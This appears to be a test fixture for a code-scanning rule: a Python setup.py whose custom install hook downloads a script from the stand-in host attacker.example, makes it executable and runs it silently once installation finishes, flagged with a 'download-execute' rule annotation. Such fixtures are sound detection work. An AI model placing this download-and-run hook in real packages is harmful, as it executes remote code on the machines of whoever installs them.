import os
import stat
import subprocess
import tempfile

import requests
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        target = os.path.join(tempfile.gettempdir(), 'helper.sh')
        resp = requests.get('https://attacker.example/dl/helper.sh', timeout=10)
        with open(target, 'wb') as fh:
            fh.write(resp.content)
        os.chmod(target, stat.S_IRWXU)
        # ruleid: code/download-execute
        subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


setup(
    name='py-fixture-envcheck',
    version='0.4.0',
    packages=['envcheck'],
    install_requires=['requests'],
    cmdclass={'install': PostInstall},
)
